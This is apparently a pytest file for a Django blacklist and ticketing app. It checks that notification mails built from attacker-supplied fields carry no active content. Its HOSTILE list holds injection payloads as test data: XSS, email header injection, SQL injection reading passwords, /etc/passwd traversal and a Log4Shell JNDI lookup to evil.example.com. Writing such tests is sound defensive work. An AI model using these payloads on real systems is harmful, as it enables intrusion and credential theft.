"""Whatever an attacker or a caller makes us print, a mail holds nothing that acts: no markup, link or payload."""

import re
import unicodedata
from datetime import timedelta

import pytest
from django.conf import settings

from sakimori.blacklist.models import Block, BlockState, Finding, FindingState, RestoreChannel
from sakimori.blacklist.reasons import Reason
from sakimori.customers.models import Contact
from sakimori.notify.models import Message
from sakimori.tickets.actions import restore_for_somebody
from sakimori.tickets.duties import mail_blocks, mail_restores, open_tickets
from tests.people import NOW, make_block, make_finding, make_people

pytestmark = pytest.mark.django_db

WAVE = timedelta(minutes=15)
HOSTILE = [
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "http://evil.example.com/a.exe?x=1",
    "hTTps://evil.example.com",
    "javascript://evil.example.com/%0aalert(1)",
    "mailto:victim@example.com",
    "www.evil.example.com",
    "{{ 7*7 }}{% debug %}",
    "a\r\nBcc: victim@example.com\r\n\r\nbody",
    "a\x00b\x1b[31mred",
    "\u202egpj.exe\u2066",
    "\ufeff\u200b\u2028line\u2029",
    "' OR 1=1 UNION SELECT password FROM users--",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example.com/a}",
    "あ" * 250,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_mail_about_addresses_acts_on_its_reader(text: str) -> None:
    people = make_people()
    Contact.objects.create(customer=people.a.customer, name="桜井 花子", email="c1@example.jp", priority=1)
    blocks = [make_block(people.a, f"203.0.113.{number}") for number in (1, 2)]
    make_block(people.a, "203.0.113.3", state=BlockState.PROPOSED)
    make_finding(people.a, "203.0.113.4", state=FindingState.REFUSED, reason=Reason.REGISTERED)
    hostile = {
        "site_name": text[:253],
        "country": text[:8],
        "name": text[:200],
        "rules": [text],
        "samples": [{"url": text}],
    }
    Finding.objects.update(**hostile)
    open_tickets(wave=WAVE, now=NOW)
    mail_blocks(wave=WAVE, now=NOW)
    restore_for_somebody(
        blocks[0],
        channel=RestoreChannel.PHONE,
        by=people.dana,
        reason=text[:200],
        requester=text[:100],
        identified=text[:200],
        now=NOW,
    )
    Block.objects.filter(pk=blocks[0].pk).update(state=BlockState.RESTORED, restored_at=NOW)
    mail_restores(wave=WAVE, now=NOW)
    messages = list(Message.objects.all())
    assert len(messages) == 2
    for message in messages:
        assert "\n" not in message.subject
        assert_harmless(message.subject)
        assert_harmless(message.body)


def assert_harmless(text: str) -> None:
    base = settings.CONFIG.base_url
    foreign = text.replace(base, "")
    assert not re.search(r"(?i)https?://|[<>]|\w\.example|ldap://|\w@\w|^bcc:", foreign, re.MULTILINE), text
    assert not [sign for sign in foreign if sign != "\n" and unicodedata.category(sign) in ("Cc", "Cf", "Zl", "Zp")]
